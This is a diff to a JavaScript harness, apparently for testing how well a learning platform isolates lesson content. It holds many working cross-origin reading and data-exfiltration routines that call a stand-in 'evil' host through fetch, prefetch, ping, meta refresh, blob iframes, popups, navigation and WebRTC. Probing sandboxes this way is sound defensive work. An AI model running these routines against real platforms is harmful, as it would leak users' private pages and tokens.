@@ -25,10 +25,15 @@ async function callOut(name, Connection) {
   const call = new Connection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
   call.createDataChannel("stolen");
   await call.setLocalDescription(await call.createOffer());
-  await pause(700);
+  await pause(500);
   call.close();
 }
 
+/** What is got if it is anything: a refused frame may hold an empty page (Firefox). */
+function something(got) {
+  if (!got) throw new Error("nothing");
+  return got;
+}
 const text = async (answer) => (await (await answer).text()).slice(0, 200);
 
 /** Read what is not the lesson's. */
@@ -55,7 +60,7 @@ const reading = {
   a_page_in_a_frame: async () => {
     const frame = element("iframe", { src: `${target.lms}/people` });
     await frame.fetched;
-    return frame.contentDocument.body.innerText;
+    return something(frame.contentDocument.body.innerText);
   },
   a_page_in_a_window: async () => {
     const opened = open(`${target.lms}/people`);
@@ -92,7 +97,7 @@ const reading = {
   another_course_in_a_frame: async () => {
     const frame = element("iframe", { src: `${target.other}/rt/${target.otherToken}/` });
     await frame.fetched;
-    return frame.contentDocument.body.innerHTML;
+    return something(frame.contentDocument.body.innerHTML);
   },
   a_channel_to_another_course: () =>
     within(2500, new Promise((done) => {
@@ -212,6 +217,14 @@ const changing = {
 
 /** Bring something out of the house. */
 const leaking = {
+  prefetch: async () => {
+    // Firefox drops what it would fetch ahead as soon as a frame begins to load, and may be asked again.
+    for (let times = 0; times < 4; times += 1) {
+      const link = element("link", { rel: "prefetch", href: evil("prefetch") }, document.head);
+      if ((await link.fetched) === "loaded") break;
+      await pause(300);
+    }
+  },
   fetch: () => fetch(evil("fetch"), { mode: "no-cors" }),
   request: () => {
     const request = new XMLHttpRequest();
@@ -250,7 +263,6 @@ const leaking = {
     form.submit();
   },
   ping: () => element("a", { href: "#", ping: evil("ping") }).click(),
-  prefetch: () => element("link", { rel: "prefetch", href: evil("prefetch") }, document.head).fetched,
   preload: () => element("link", { rel: "preload", as: "script", href: evil("preload") }, document.head).fetched,
   speculation: () =>
     element("script", {
@@ -277,6 +289,18 @@ const leaking = {
     const code = `import ${JSON.stringify(evil("worklet"))}`;
     await CSS.paintWorklet.addModule(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
   },
+  a_refresh: () => {
+    const frame = element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${evil("a_refresh")}">` });
+    return frame.fetched;
+  },
+  a_page_of_data: () => {
+    const page = `<script>new Image().src=${JSON.stringify(evil("a_page_of_data"))}</scr` + "ipt>";
+    return element("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })) }).fetched;
+  },
+};
+
+/** The same through a window. A browser opens one where she has clicked just before, and otherwise none: each has a button. */
+const opening = {
   a_named_window: () => open(evil("a_named_window"), "named", "popup,width=100,height=100"),
   a_window_without_opener: () => open(evil("a_window_without_opener"), "_blank", "noopener"),
   a_blank_window_led_on: () => {
@@ -289,26 +313,10 @@ const leaking = {
   },
   a_new_window: () => open(evil("a_new_window")),
   a_link_to_a_window: () => element("a", { href: evil("a_link_to_a_window"), target: "_blank" }).click(),
-  a_refresh: () => {
-    const frame = element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${evil("a_refresh")}">` });
-    return frame.fetched;
-  },
-  a_page_of_data: () => {
-    const page = `<script>new Image().src=${JSON.stringify(evil("a_page_of_data"))}</scr` + "ipt>";
-    return element("iframe", { src: URL.createObjectURL(new Blob([page], { type: "text/html" })) }).fetched;
-  },
 };
 
 /** The same by going there, or calling out; each ends the lesson, stopped or not, so they are made one at a time. */
 const leaving = {
-  web_rtc: () => callOut("web_rtc", RTCPeerConnection),
-  web_rtc_of_a_frame: () => callOut("web_rtc_of_a_frame", element("iframe", {}).contentWindow.RTCPeerConnection),
-  web_rtc_of_a_page_of_data: async () => {
-    const page = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
-    const frame = element("iframe", { src: page });
-    await frame.fetched;
-    return callOut("web_rtc_of_a_page_of_data", frame.contentWindow.RTCPeerConnection);
-  },
   a_link_to_the_top: () => element("a", { href: evil("a_link_to_the_top"), target: "_top" }).click(),
   the_top: () => {
     top.location = evil("the_top");
@@ -321,26 +329,44 @@ const leaving = {
   its_own_page: () => {
     location = evil("its_own_page");
   },
+  web_rtc: () => callOut("web_rtc", RTCPeerConnection),
+  web_rtc_of_a_frame: () => callOut("web_rtc_of_a_frame", element("iframe", {}).contentWindow.RTCPeerConnection),
+  web_rtc_of_a_page_of_data: async () => {
+    const page = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
+    const frame = element("iframe", { src: page });
+    await frame.fetched;
+    return callOut("web_rtc_of_a_page_of_data", frame.contentWindow.RTCPeerConnection);
+  },
 };
 
-const said = {};
-async function run(kind, attacks) {
-  for (const [name, attack] of Object.entries(attacks)) {
-    try {
-      said[`${kind}.${name}`] = { got: String(JSON.stringify(await within(4000, Promise.resolve(attack()))) ?? "").slice(0, 300) };
-    } catch (error) {
-      said[`${kind}.${name}`] = { refused: `${error.name ?? error}: ${error.message ?? error.code ?? ""}` };
-    }
+async function told(attack) {
+  try {
+    return { got: String(JSON.stringify(await within(4000, Promise.resolve(attack()))) ?? "").slice(0, 300) };
+  } catch (error) {
+    return { refused: `${error.name ?? error}: ${error.message ?? error.code ?? ""}` };
   }
+}
+
+const said = {};
+async function inTurn(kind, attacks) {
+  for (const [name, attack] of Object.entries(attacks)) said[`${kind}.${name}`] = await told(attack);
+}
+
+/** Most of them wait for something that never comes: they wait together. */
+async function together(kind, attacks) {
+  const each = Object.entries(attacks).map(async ([name, attack]) => {
+    said[`${kind}.${name}`] = await told(attack);
+  });
+  await Promise.all(each);
 }
 
 target.token = () => location.pathname.split("/")[2];
 
 async function raid() {
   if (target.lms) {
-    await run("reading", reading);
-    await run("changing", changing);
+    await together("reading", reading);
+    await inTurn("changing", changing);
   }
-  await run("leaking", leaking);
+  await together("leaking", leaking);
   return said;
 }
